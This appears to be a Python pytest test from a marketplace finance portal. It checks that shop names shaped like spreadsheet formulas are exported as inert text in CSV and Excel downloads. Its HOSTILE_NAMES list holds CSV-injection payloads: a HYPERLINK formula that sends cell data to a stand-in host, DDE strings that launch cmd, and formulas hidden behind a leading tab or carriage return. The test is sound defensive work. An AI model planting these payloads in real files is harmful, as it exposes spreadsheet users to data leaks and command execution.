"""Formula injection through the finance exports, over HTTP as finance staff.

Broke: shops named like spreadsheet formulas (`=HYPERLINK(...)`, `+`, `-`, `@SUM(...)`, and a
leading tab or carriage return, per OWASP's CSV-injection guidance), in a year of real history.
Checked: the advertisers table downloaded as CSV and the whole dashboard as an Excel workbook
(read back with openpyxl) hold each name as text with a leading apostrophe, never as a formula;
the CSV parses back to exactly the neutralised strings. Every download (finance and shop
reports) goes through `portal_plugin.export_responses.table_download`, so this covers that path.
"""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session
from starlette.testclient import TestClient

from marketplace.calendar import fiscal_year, tokyo_date
from marketplace.db import utcnow
from marketplace.models import Shop
from marketplace.vocab import StaffRole
from portal_plugin.demo.history import seed_history
from tests.support.analytics_world import CONFIG
from tests.support.staff_http import log_in

HOSTILE_NAMES = (
    '=HYPERLINK("http://x.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


@pytest.mark.slow
def test_shop_names_that_look_like_formulas_are_text_in_csv_and_xlsx(
    client: TestClient, session: Session
) -> None:
    today = tokyo_date(utcnow())
    seed_history(session, CONFIG, today=today, shops=len(HOSTILE_NAMES), years=1, seed=5)
    shops = list(session.scalars(select(Shop).order_by(Shop.id)))
    assert len(shops) == len(HOSTILE_NAMES)
    for shop, name in zip(shops, HOSTILE_NAMES, strict=True):
        shop.business_name = name
    session.flush()
    log_in(client, session, StaffRole.FINANCE)
    year = fiscal_year(today)

    exported = client.get(f"/finance/export/advertisers.csv?fiscal_year={year}")
    assert exported.status_code == 200
    cells = {
        cell
        for row in csv.reader(io.StringIO(exported.content.decode("utf-8-sig"), newline=""))
        for cell in row
    }
    shown = {name for name in HOSTILE_NAMES if "'" + name in cells}
    assert shown, "no hostile shop name reached the advertisers export; the test proves nothing"
    for name in HOSTILE_NAMES:
        assert name not in cells, f"CSV cell left live: {name!r}"

    workbook = load_workbook(
        io.BytesIO(client.get(f"/finance/export/all.xlsx?fiscal_year={year}").content)
    )
    # Whether a carriage return survives the round trip through XML depends on the parser
    # openpyxl reads with (the standard library normalises it to a line feed, lxml keeps it):
    # both spellings are the same name.
    in_xml = {name: name for name in HOSTILE_NAMES}
    in_xml.update({name.replace("\r", "\n"): name for name in HOSTILE_NAMES})
    seen = set()
    for sheet in workbook:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if isinstance(value, str) and value.lstrip("'") in in_xml:
                    assert cell.data_type == "s", (sheet.title, value)
                    assert value.startswith("'"), f"{sheet.title}: live formula {value!r}"
                    seen.add(in_xml[value[1:]])
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
    assert seen == shown
